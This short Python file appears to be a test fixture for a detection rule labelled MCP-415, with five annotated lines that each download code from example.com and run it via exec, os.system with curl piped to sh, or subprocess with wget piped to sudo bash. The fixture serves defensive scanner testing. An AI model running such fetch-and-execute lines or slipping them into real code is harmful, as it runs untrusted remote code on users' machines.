import os
import subprocess
import urllib.request

import requests

# ruleid: MCP-415
exec(requests.get("https://example.com/stage2.py").text)

r = requests.get("https://example.com/stage2.py")
# ruleid: MCP-415
exec(r.text)

# ruleid: MCP-415
exec(urllib.request.urlopen("https://example.com/stage2.py").read())

# ruleid: MCP-415
os.system("curl -s https://example.com/x.sh | sh")

# ruleid: MCP-415
subprocess.run("wget -qO- https://example.com/x.sh | sudo bash", shell=True)
